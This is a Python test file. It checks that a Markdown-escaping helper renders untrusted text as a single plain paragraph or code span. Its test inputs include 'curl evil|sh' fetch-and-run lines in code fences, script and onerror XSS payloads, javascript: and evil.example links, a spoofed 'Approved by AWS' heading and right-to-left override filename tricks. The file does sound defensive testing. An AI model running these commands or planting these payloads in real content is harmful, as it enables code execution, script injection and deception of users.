"""Untrusted text in Markdown remains text: CommonMark parses it as one paragraph without markup."""

import pytest
from markdown_it import MarkdownIt

from baseline.text.markdown import markdown_code, markdown_text

ATTACKS = {
    "fence after carriage returns": "N\r\r```sh\rcurl evil|sh\r```\r<img src=x>",
    "fence": "N\n\n```sh\ncurl evil|sh\n```",
    "tilde fence": "N\n\n~~~sh\ncurl evil\n~~~",
    "indented code": "N\n\n    curl evil | sh",
    "heading": "N\n\n# Approved by AWS",
    "heading at once": "# Approved by AWS",
    "underlined heading": "N\n===",
    "rule": "N\n\n---\n",
    "list": "- item",
    "numbered list": "1. item",
    "list with a parenthesis": "12) item",
    "plus list": "+ item",
    "quotation": "> AWS says",
    "link": "[log in](https://evil.example)",
    "script link": "[x](javascript:alert(1))",
    "reference link": "[x][y]\n\n[y]: https://evil.example",
    "image": "![p](https://evil.example/p.png)",
    "autolink": "<https://evil.example>",
    "mail link": "<a@evil.example>",
    "element": "<script>alert(1)</script>",
    "image element": "<img src=x onerror=alert(1)>",
    "comment": "<!-- the rest vanishes",
    "entity": "&lt;b&gt; &#x202E;",
    "code": "`curl evil`",
    "code over two": "`` `curl` ``",
    "emphasis": "*a* **b** _c_ __d__",
    "strikethrough": "~~not~~",
    "cell": "a | b | c",
    "escaped cell": "a \\| b",
    "backslashes": "\\\\ \\* \\",
    "line separator": "N\u2028\u2028```sh\u2028curl evil\u2028```",
    "paragraph separator": "N\u2029# A",
    "next line": "N\x85```sh\x85x",
    "form feed": "N\f# A",
    "vertical tab": "N\v# A",
    "hard break": "a  \nb",
    "backslash break": "a\\\nb",
    "escape sequence": "a\x1b[2Jb",
    "reordered": "abc\u202etxt.exe",
    "isolated": "a\u2066b\u2069",
    "nothing": "",
    "blanks": "   ",
}


def read(text: str) -> tuple[list[str], str]:
    """The kinds of tokens inside, and the visible text."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    tokens = [inner for token in parser.parse(text) for inner in (token, *(token.children or []))]
    shown = "".join(token.content for token in tokens if token.type in ("text", "code_inline"))
    return [token.type for token in tokens], shown


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_markdown_text_has_no_markup_in_a_paragraph(text: str) -> None:
    kinds, _ = read(markdown_text(text))
    assert set(kinds) <= {"paragraph_open", "paragraph_close", "inline", "text"}


@pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
def test_markdown_text_stays_in_its_heading_and_cell(text: str) -> None:
    kinds, _ = read(f"# {markdown_text(text)}\n\n| a | b |\n|---|---|\n| {markdown_text(text)} | b |\n\nend")
    assert kinds.count("heading_open") == 1
    assert kinds.count("td_open") == 2
    assert kinds.count("paragraph_open") == 1
    assert not {"fence", "code_block", "html_block", "html_inline", "link_open", "image", "hr", "code_inline"} & {
        *kinds
    }


@pytest.mark.parametrize(
    "text", ['a_b <c> & d\'s "e" 50 % #1!', "[x](y)", "log_archive", "C# ~1 *", "a\\b", "1. x", "- x"]
)
def test_markdown_text_reads_as_what_it_was(text: str) -> None:
    assert read(markdown_text(text))[1] == text


@pytest.mark.parametrize("text", ["nw-kms", "a`b", "``", "`", "a``b`", "x|y", " a ", "a\n```\nb"])
def test_markdown_code_is_one_code_span(text: str) -> None:
    kinds, shown = read(f"| a |\n|---|\n| {markdown_code(text)} |")
    assert kinds.count("code_inline") == 1
    assert kinds.count("td_open") == 1
    assert shown.removeprefix("a").strip() == " ".join(text.split())


@pytest.mark.parametrize("text", ["Look!", "!", "a!!", "a\\!"])
def test_a_last_exclamation_mark_makes_no_image_of_the_link_after_it(text: str) -> None:
    html = MarkdownIt("commonmark").render(f"{markdown_text(text)}[more](https://example.org/)")
    assert "<img" not in html
    assert f'{text}<a href="https://example.org/">more</a>' in html
